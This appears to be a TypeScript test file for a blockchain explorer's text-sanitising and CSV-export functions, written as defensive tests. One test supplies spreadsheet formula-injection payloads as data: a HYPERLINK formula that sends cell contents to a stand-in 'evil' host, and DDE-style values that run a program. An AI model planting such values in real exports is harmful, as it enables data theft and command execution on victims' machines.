/**
 * The explorer's pure text functions, loaded from src through Vite's SSR loader (the browser code is
 * TypeScript only Vite compiles): what chain or node text becomes on the page and in the CSV export.
 * No browser; the Vite server is closed at the end.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import type { ViteDevServer } from 'vite';

const EXPLORER_DIR = fileURLToPath(new URL('../../', import.meta.url));

interface Format {
  visibleText: (text: string, max?: number) => string;
  CHAIN_TEXT_MAX: number;
}
interface History {
  accountCsv: (self: string, rows: unknown[]) => string;
}
interface Actions {
  transferredAmount: (tx: unknown) => bigint;
}
interface Poci {
  shortChip: (chipId: string) => string;
}
interface Market {
  LeasesTable: (props: { leases: unknown[]; now: number; empty: string; testId?: string }) => unknown;
}
interface ReactServer {
  renderToString: (el: unknown) => string;
}
interface ReactMod {
  createElement: (type: unknown, props: unknown) => unknown;
}

/** What must never reach the page as is: it draws nothing, moves the line, or turns text around. */
const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}]/u;

/** Any code point, with lone surrogates, combining marks and bidi controls made likely. */
const CHAR = fc.oneof(
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  fc.constantFrom('\uD83D', '\uDE00', '\u0301', '\u0316', '\u202E', '\u2029', '⟨', '⟩'),
);

const SELF = 'unc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqs3lf';

describe('chain text and the CSV export', () => {
  let server: ViteDevServer;
  let format: Format;
  let history: History;
  let actions: Actions;
  let poci: Poci;
  let market: Market;
  let reactServer: ReactServer;
  let react: ReactMod;

  before(async () => {
    const { createServer } = await import('vite');
    server = await createServer({
      root: EXPLORER_DIR,
      configFile: `${EXPLORER_DIR}vite.config.ts`,
      logLevel: 'warn',
      appType: 'custom',
      server: { middlewareMode: true, hmr: false },
      optimizeDeps: { noDiscovery: true, include: [] },
    });
    format = (await server.ssrLoadModule('/src/format.ts')) as Format;
    history = (await server.ssrLoadModule('/src/account-history.ts')) as History;
    actions = (await server.ssrLoadModule('/src/components/actions.tsx')) as Actions;
    poci = (await server.ssrLoadModule('/src/poci.ts')) as Poci;
    market = (await server.ssrLoadModule('/src/components/market.tsx')) as Market;
    // The same React the SSR-loaded module gets: Vite leaves packages to Node.
    reactServer = (await import('react-dom/server')) as unknown as ReactServer;
    react = (await import('react')) as unknown as ReactMod;
  });

  after(async () => {
    await server?.close();
  });

  test('visibleText: nothing hidden, no more than four marks on a letter, bounded, whatever the input', () => {
    fc.assert(
      fc.property(fc.string({ unit: CHAR, maxLength: 300 }), fc.integer({ min: 20, max: 400 }), (s, max) => {
        const out = format.visibleText(s, max);
        assert.doesNotMatch(out, HIDDEN);
        assert.doesNotMatch(out, /\p{M}{5}/u);
        assert.ok(out.length <= max + 1, `${out.length} > ${max} + "…"`);
      }),
      { numRuns: 2000 },
    );
  });

  test('visibleText: a cut never leaves half a code point', () => {
    const rlo = '\u202E';
    for (let max = 1; max < 30; max++) {
      const out = format.visibleText(`${rlo.repeat(5)}😀😀😀`.repeat(4), max);
      assert.ok(out.endsWith('…'));
      assert.doesNotMatch(out.slice(0, -1), /⟨[^⟩]*$/, `max ${max}: ${out}`);
      assert.doesNotMatch(out, /[\uD800-\uDBFF](?![\uDC00-\uDFFF])/, `max ${max}: lone high surrogate`);
    }
    assert.equal(format.visibleText('plain text'), 'plain text');
    assert.equal(format.visibleText('x'.repeat(format.CHAIN_TEXT_MAX)), 'x'.repeat(format.CHAIN_TEXT_MAX));
  });

  test('the CSV export: a field a node chose cannot start a spreadsheet formula', () => {
    const row = {
      hash: '=HYPERLINK("http://evil/?"&A1,"refund")',
      height: 1,
      index: 0,
      time: '@SUM(1+1)*cmd|"/C calc"!A0',
      tx: {
        from: SELF,
        nonce: '+1+cmd|"/C calc"!A0',
        fee: '-2+3',
        chainId: 'unc-devnet',
        actions: [{ type: '=1+1' }, { type: 'transfer', to: '\t=1+1', amount: '5' }],
      },
    };
    const csv = history.accountCsv(SELF, [row]);
    const [, line] = csv.trim().split('\n');
    // A quoted field's first character is after the quote.
    const fields = (line ?? '').match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((f) => f.replace(/,$/, ''));
    for (const f of fields) assert.doesNotMatch(f.replace(/^"/, ''), /^[=+\-@\t\r]/, `formula field: ${f}`);
    // Plain numbers are still numbers.
    assert.match(line ?? '', /,5,/);
  });

  test('an amount a node answers that is not a number does not throw (the page would go blank)', () => {
    const tx = { from: SELF, actions: [{ type: 'transfer', to: SELF, amount: 'lots' }] };
    assert.equal(actions.transferredAmount(tx), 0n);
    const row = { hash: 'ab'.repeat(32), height: 1, index: 0, time: '', tx: { ...tx, nonce: '1', fee: '1' } };
    assert.doesNotThrow(() => history.accountCsv(SELF, [row]));
  });

  test('a chip is named by 8 + 6 hex digits: 32 bits could be ground to look like another chip', () => {
    const id = `0123456789${'ab'.repeat(24)}cdef01`;
    assert.equal(poci.shortChip(id), '01234567…cdef01');
  });

  test('a lease list shows its first 100 (newest first, as the page orders them) and a way to see more', () => {
    const lease = (i: number) => ({
      id: i.toString(16).padStart(64, '0'),
      chipId: 'cc'.repeat(32),
      offerId: 'dd'.repeat(32),
      renter: SELF,
      provider: SELF,
      pricePerHour: '1',
      paid: '0',
      refunded: '0',
      remaining: '1',
      status: 'open',
      startHeight: i,
      startTime: i,
      endTime: 0,
    });
    const leases = Array.from({ length: 250 }, (_, i) => lease(250 - i));
    const html = reactServer.renderToString(
      react.createElement(market.LeasesTable, { leases, now: 0, empty: 'none', testId: 'leases' }),
    );
    assert.equal(html.match(/data-lease="/g)?.length, 100);
    assert.match(html, new RegExp(`data-lease="${lease(250).id}"`));
    assert.match(html.replace(/<!-- -->/g, ''), /data-testid="leases-more"[^>]*>Show 100 more of 150</);
  });
});
